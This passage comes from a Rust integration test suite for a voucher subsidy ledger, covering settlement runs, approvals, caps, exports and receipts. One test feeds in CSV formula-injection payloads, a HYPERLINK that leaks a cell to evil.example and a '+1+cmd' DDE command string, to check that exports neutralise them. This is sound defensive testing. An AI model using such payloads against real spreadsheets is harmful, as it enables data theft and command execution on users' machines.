                "UPDATE settlement_runs SET status = 'prepared', approved_by = NULL WHERE id = '{run_id}'"
            ),
            String::new(),
            "settlement run",
        ),
    ];
    for (change, undo, expected) in tampered {
        db.expect_verify_catches(&world.store, &change, &undo, expected)
            .await;
    }
}

async fn the_cli_prepares_approves_and_exports_a_run<S: Store>(store: S, db: &TestDb) {
    use crate::processes::run;
    let (Scene { world, .. }, _) = confirmed(store, 2, "CLI").await;
    let dir = tempfile::tempdir().unwrap();
    let url = db.url();
    let quarter = this_quarter();
    let prepare = [
        "settle",
        "prepare",
        "--programme",
        CODE,
        "--period",
        &quarter,
        "--as",
        "finance",
        "--database-url",
        url,
    ];
    let (code, out) = run(dir.path(), &prepare).await;
    assert_eq!(code, 0, "{out}");
    assert!(
        out.contains("prepared") && out.contains("¥4,000.00"),
        "{out}"
    );
    let run_id = out.split_whitespace().nth(1).unwrap().to_string();
    // Running it again records nothing new.
    let (code, _) = run(dir.path(), &prepare).await;
    assert_eq!(code, 0);
    assert_eq!(world.count_entries("settlement_prepared").await, 1);
    let approve = |user: &'static str| {
        let run_id = run_id.clone();
        let dir = dir.path().to_path_buf();
        async move {
            run(
                &dir,
                &[
                    "settle",
                    "approve",
                    &run_id,
                    "--as",
                    user,
                    "--database-url",
                    url,
                ],
            )
            .await
        }
    };
    let (code, _) = approve("finance").await;
    assert_ne!(code, 0, "the preparer cannot approve");
    let (code, out) = approve("finance-checker").await;
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("approved"), "{out}");

    let payment = dir.path().join("pay.csv");
    let args = [
        "settle",
        "payment-file",
        &run_id,
        "--out",
        payment.to_str().unwrap(),
        "--database-url",
        url,
    ];
    assert_eq!(run(dir.path(), &args).await.0, 0);
    assert!(
        std::fs::read_to_string(&payment)
            .unwrap()
            .contains("4000.00")
    );
    let xlsx = dir.path().join("batch.xlsx");
    let args = [
        "report",
        "batch",
        &run_id,
        "--out",
        xlsx.to_str().unwrap(),
        "--database-url",
        url,
    ];
    let (code, out) = run(dir.path(), &args).await;
    assert_eq!(code, 0, "{out}");
    assert!(
        out.contains("2 lines") && out.contains("人民币肆仟元整"),
        "{out}"
    );
    assert!(std::fs::read(&xlsx).unwrap().starts_with(b"PK"));
    let svg = dir.path().join("use.svg");
    let args = [
        "report",
        "utilisation",
        "--programme",
        CODE,
        "--svg",
        svg.to_str().unwrap(),
        "--database-url",
        url,
    ];
    let (code, out) = run(dir.path(), &args).await;
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("定海区"), "districts by name: {out}");
    assert!(std::fs::read_to_string(&svg).unwrap().starts_with("<svg"));
    let (code, out) = run(dir.path(), &["verify", "--database-url", url]).await;
    assert_eq!(code, 0, "{out}");
}

async fn a_reversal_before_approval_takes_its_line_out_of_the_run<S: Store>(
    store: S,
    _db: &TestDb,
) {
    let (
        Scene {
            world,
            provider,
            checker,
            ..
        },
        redemptions,
    ) = confirmed(store, 2, "RV").await;
    let run = prepare(&world, &world.bearer("finance"), &this_quarter(), "prep")
        .await
        .body;
    assert_eq!(run["included_count"], 2);
    let reversed = act(
        &world,
        &provider.staff,
        &redemptions[1],
        "reverse",
        json!({"reason": "合同取消"}),
        "x1",
    )
    .await;
    assert_eq!(reversed.body["status"], "reversed", "{:?}", reversed.body);
    voucher_ledger::service::verify::verify_store(&world.store, &[])
        .await
        .unwrap();
    let approved = approve(&world, &checker, &run, "approve").await.body;
    assert_eq!(approved["payouts"][0]["gross_fen"], SUBSIDY, "{approved:?}");
    assert_eq!(
        (
            approved["included_count"].as_i64(),
            approved["released_count"].as_i64()
        ),
        (Some(1), Some(1))
    );
    voucher_ledger::service::verify::verify_store(&world.store, &[])
        .await
        .unwrap();
}

async fn the_annual_cap_holds_and_no_note_lifts_it<S: Store>(store: S, _db: &TestDb) {
    let Scene {
        world,
        firms,
        vouchers,
        provider,
        ..
    } = setting(store, 3).await;
    let mut no_invoice = contract(&vouchers[0], "CAP0", CONTRACT, true);
    no_invoice.as_object_mut().unwrap().remove("invoice");
    let bodies = vec![
        no_invoice,
        contract(&vouchers[1], "CAP1", CONTRACT, true),
        contract(&vouchers[2], "CAP2", CONTRACT, true),
    ];
    let redemptions = redeemed_and_confirmed(&world, &provider, &firms, bodies).await;
    // The bureau lowers the provider's annual cap to 3,000 元 afterwards.
    let lowered = world
        .api
        .post(
            "/api/v1/providers",
            &world.bearer("admin"),
            provider_fields(&uscc(31), &uscc(32), "3,000"),
            "cap",
        )
        .await;
    assert!(lowered.status.is_success(), "{:?}", lowered.body);
    let finance = world.bearer("finance");
    let run = prepare(&world, &finance, &this_quarter(), "prep")
        .await
        .body;
    let run_id = run["id"].as_str().unwrap();
    let lines = world
        .api
        .get(&format!("/api/v1/settlement-runs/{run_id}/lines"), &finance)
        .await;
    let codes: Vec<Vec<&str>> = lines.body["lines"]
        .as_array()
        .unwrap()
        .iter()
        .map(flag_codes)
        .collect();
    // 2,000 fits the cap; 2,000 more would not; the first is held anyway.
    assert_eq!(
        codes,
        [vec!["invoice_missing"], vec![], vec!["provider_annual_cap"]]
    );
    let cap = lines.body["lines"][2]["flags"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["code"] == "provider_annual_cap")
        .unwrap()
        .clone();
    assert_eq!(cap["resolvable"], false);
    for (index, key) in [(2, "res-cap"), (0, "res-missing")] {
        let path = format!(
            "/api/v1/settlement-runs/{run_id}/lines/{}/resolve",
            redemptions[index]["id"].as_str().unwrap()
        );
        world
            .api
            .post(&path, &finance, json!({"note": "特批"}), key)
            .await
            .expect_error(StatusCode::CONFLICT, "settlement_flag_not_resolvable");
    }
    assert_eq!(world.count_entries("settlement_line_resolved").await, 0);
}

async fn racing_runs_for_overlapping_periods_settle_each_redemption_once<S: Store>(
    store: S,
    db: &TestDb,
) {
    let (Scene { world, .. }, redemptions) = confirmed(store, 3, "RACE").await;
    let finance = world.bearer("finance");
    let periods = [this_quarter(), this_year(), format!("{}H2", this_year())];
    let replies = futures_util::future::join_all(
        periods
            .iter()
            .enumerate()
            .map(|(n, period)| prepare(&world, &finance, period, ["p0", "p1", "p2"][n])),
    )
    .await;
    let created: Vec<&Reply> = replies
        .iter()
        .filter(|r| r.status == StatusCode::CREATED)
        .collect();
    assert_eq!(
        created.len(),
        1,
        "{:?}",
        replies.iter().map(|r| &r.body).collect::<Vec<_>>()
    );
    assert_eq!(created[0].body["included_count"], 3);
    for reply in replies.iter().filter(|r| r.status != StatusCode::CREATED) {
        reply.expect_error(StatusCode::CONFLICT, "nothing_to_settle");
    }
    // And the database refuses a second live line for a redemption.
    let redemption = redemptions[0]["id"].as_str().unwrap();
    let run = created[0].body["id"].as_str().unwrap();
    let duplicate = db
        .try_execute(&format!(
            "INSERT INTO settlement_lines (run_id, redemption_id, line_no, provider_id, \
             subsidy_fen, state, flags, voucher_id, enterprise_name, service_category, \
             contract_amount_fen) VALUES ('{run}', '{redemption}', 99, 'x', 1, 'held', '[]', \
             'v', 'e', 'c', 2)"
        ))
        .await
        .expect_err("a second live line was accepted");
    assert!(
        format!("{duplicate:?}").to_lowercase().contains("unique"),
        "refused for another reason: {duplicate:?}"
    );
}

/// Forty providers: the approval posts 80 postings in one entry, and the
/// ledger still verifies.
async fn a_batch_pays_many_providers_in_one_verifiable_entry<S: Store>(store: S, _db: &TestDb) {
    const PROVIDERS: usize = 40;
    let Scene {
        world,
        firms,
        vouchers,
        checker,
        ..
    } = setting(store, PROVIDERS).await;
    for (index, (firm, voucher)) in firms.iter().zip(&vouchers).enumerate() {
        let counter = counter(
            &world,
            provider_fields(&uscc(100 + index as u32), &uscc(99), "5,000,000"),
            "approved",
        )
        .await;
        let body = contract(voucher, &format!("MANY{index}"), CONTRACT, true);
        let redemption = redeem(&world, &counter, body, &format!("r{index}")).await;
        confirm(&world, firm, &redemption, &format!("c{index}")).await;
    }
    let run = prepare(&world, &world.bearer("finance"), &this_quarter(), "prep")
        .await
        .body;
    let approved = approve(&world, &checker, &run, "approve").await;
    assert_eq!(approved.status, StatusCode::OK, "{:?}", approved.body);
    assert_eq!(
        approved.body["payouts"].as_array().unwrap().len(),
        PROVIDERS
    );
    let entry = world.last_entry().await;
    assert_eq!(entry["kind"], "settlement_approved");
    assert_eq!(entry["postings"].as_array().unwrap().len(), 2 * PROVIDERS);
    voucher_ledger::service::verify::verify_store(&world.store, &[])
        .await
        .unwrap();
}

/// The (provider, firm) pairs that can dominate a firm come from one
/// aggregate over the programme: unreversed redemptions per pair, only the
/// pairs with at least the minimum, only this programme's.
async fn dominating_pairs_count_each_provider_and_firm_of_the_programme<S: Store>(
    store: S,
    db: &TestDb,
) {
    use voucher_ledger::store::settlement::SettlementTx;
    let id = |n: u32| Uuid::parse_str(&format!("00000000-0000-7000-8000-{n:012x}")).unwrap();
    let (a, b, x, y) = (id(0xa), id(0xb), id(0xc), id(0xd));
    // (provider, firm, programme, status), one redemption each.
    let rows = [
        (a, x, "P", "confirmed"),
        (a, x, "P", "pending"),
        (a, x, "P", "reversed"),
        (a, y, "P", "confirmed"),
        (b, x, "P", "disputed"),
        (b, x, "P", "confirmed"),
        (b, y, "Q", "confirmed"),
        (b, y, "Q", "confirmed"),
    ];
    let inserts: Vec<String> = rows
        .iter()
        .enumerate()
        .map(|(n, (provider, firm, programme, status))| {
            format!(
                "INSERT INTO redemptions (id, voucher_id, programme_code, provider_id, \
                 enterprise_id, service_category, contract_number, description, \
                 contract_amount_fen, subsidy_fen, returned_fen, single_use, fiscal_year, status, \
                 redeemed_sequence, redeemed_at_us, updated_at_us, voucher_issued_at_us, \
                 voucher_face_value_fen) VALUES ('{}', '{}', '{programme}', '{provider}', '{firm}', \
                 '管理咨询', 'HT', 'd', 300, 100, 0, 0, 2026, '{status}', {seq}, 0, 0, 0, 100)",
                id(100 + n as u32),
                id(200 + n as u32),
                seq = 1000 + n,
            )
        })
        .collect();
    db.tamper(
        &inserts.iter().map(String::as_str).collect::<Vec<_>>(),
        None,
    )
    .await;
    let mut tx = store.begin_append().await.unwrap();
    for (min_count, expected) in [
        (1, vec![(a, x, 2), (a, y, 1), (b, x, 2)]),
        (2, vec![(a, x, 2), (b, x, 2)]),
        (3, vec![]),
    ] {
        let mut pairs = tx.dominating_pairs("P", min_count).await.unwrap();
        pairs.sort();
        assert_eq!(pairs, expected, "at least {min_count}");
    }
    assert_eq!(tx.dominating_pairs("Q", 2).await.unwrap(), vec![(b, y, 2)]);
}

/// Every cell of a CSV that spreadsheets could run as a formula: none
/// may begin with `=`, `+`, `-` or `@` unless it is a plain number.
fn formula_cells(csv: &[u8]) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(csv.strip_prefix("\u{feff}".as_bytes()).unwrap_or(csv));
    reader
        .records()
        .flat_map(|record| {
            record
                .unwrap()
                .iter()
                .map(str::to_string)
                .collect::<Vec<_>>()
        })
        .filter(|cell| {
            cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err()
        })
        .collect()
}

async fn every_csv_of_a_run_is_safe_to_open_in_a_spreadsheet<S: Store>(store: S, _db: &TestDb) {
    let Scene {
        world,
        firms,
        vouchers,
        checker,
        ..
    } = setting(store, 1).await;
    let admin = world.bearer("admin");
    let finance = world.bearer("finance");
    // A provider whose name, bank and account holder are formulas, and a
    // firm renamed to one.
    let mut fields = provider_fields(&uscc(41), &uscc(42), "5,000,000");
    fields["name"] = json!("=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"查看发票\")");
    fields["bank_name"] = json!("@SUM(1+1)");
    fields["account_name"] = json!("+1+cmd|' /C calc'!A0");
    let hostile = counter(&world, fields, "approved").await;
    let rename = format!(
        "uscc,name,division,sector,staff,revenue\n{},-2+3舟山公司,330902,industry,8,1500000\n",
        firms[0].uscc
    );
    let renamed = world
        .api
        .post_bytes(
            "/api/v1/imports/enterprises",
            &admin,
            "text/csv",
            rename.into_bytes(),
            "rename",
        )
        .await;
    assert_eq!(renamed.body["updated"], 1, "{:?}", renamed.body);
    // A formula is not an invoice number: refused at input.
    let mut body = contract(&vouchers[0], "F1", CONTRACT, true);
    body["invoice"]["number"] = json!("=HYPERLINK(\"http://evil.example/\")");
    let refused = redeem_as(&world, &hostile.staff, body.clone(), "formula").await;
    refused.expect_error(StatusCode::UNPROCESSABLE_ENTITY, "invoice_number_invalid");
    body["invoice"]["number"] = json!("26332000000012345678");
    body["invoice"]["code"] = json!("");
    let redemptions = redeemed_and_confirmed(&world, &hostile, &firms, vec![body]).await;
    assert_eq!(redemptions[0]["invoice"]["number"], "26332000000012345678");
    let run = prepare(&world, &finance, &this_quarter(), "prep")
        .await
        .body;
    approve(&world, &checker, &run, "approve").await;
    let run_id = run["id"].as_str().unwrap();
    let auditor = world.bearer("auditor");
    let files = [
        format!("/api/v1/settlement-runs/{run_id}/report/batch.csv"),
        format!(
            "/api/v1/settlement-runs/{run_id}/statements/{}/statement.csv",
            hostile.provider_id
        ),
        format!("/api/v1/settlement-runs/{run_id}/payment-file"),
    ];
    for path in files {
        let who = if path.ends_with("payment-file") {
            &finance
        } else {
            &auditor
        };
        let (status, _, csv) = world.api.download(&path, who).await;
        assert_eq!(status, StatusCode::OK, "{path}");
        assert_eq!(formula_cells(&csv), Vec::<String>::new(), "{path}");
        let text = String::from_utf8(csv).unwrap();
        assert!(
            text.contains("'=HYPERLINK") || text.contains("'+1+cmd"),
            "{path}: the hostile names are there, neutralised: {text}"
        );
    }
    let (_, _, batch) = world
        .api
        .download(
            &format!("/api/v1/settlement-runs/{run_id}/report/batch.csv"),
            &auditor,
        )
        .await;
    let batch = String::from_utf8(batch).unwrap();
    assert!(
        batch.contains("'-2+3舟山公司") && batch.contains("'@SUM(1+1)"),
        "{batch}"
    );
}

/// Once a signed checkpoint covers them: the run's approval has a receipt
/// (finance), and so has a redemption (its enterprise); both verify
/// offline with the log's key and name the right kind of entry.
async fn receipts_of_the_approval_and_a_redemption<S: Store>(
    world: &World<S>,
    run: &Value,
    firm: &crate::issuance::Firm,
    redemption: &Value,
) {
    use voucher_ledger::ledger::receipt::Receipt;
    voucher_ledger::service::transparency::sign_log_checkpoint(
        &world.store,
        &world.ledger_key,
        crate::api_client::LOG_ORIGIN,
    )
    .await
    .unwrap();
    let log = (
        crate::api_client::LOG_ORIGIN.to_string(),
        world.ledger_key.public_key(),
    );
    let paths = [
        (
            format!(
                "/api/v1/settlement-runs/{}/receipt",
                run["id"].as_str().unwrap()
            ),
            world.bearer("finance"),
            "settlement_approved",
        ),
        (
            format!(
                "/api/v1/redemptions/{}/receipt",
                redemption["id"].as_str().unwrap()
            ),
            firm.bearer(),
            "voucher_redeemed",
        ),
    ];
    for (path, who, kind) in paths {
        let reply = world.api.get(&path, &who).await;
        assert_eq!(reply.status, StatusCode::OK, "{path}: {:?}", reply.body);
        let receipt: Receipt = serde_json::from_value(reply.body).unwrap();
        assert_eq!(receipt.verify(&log, &[]).unwrap().kind, kind, "{path}");
    }
}
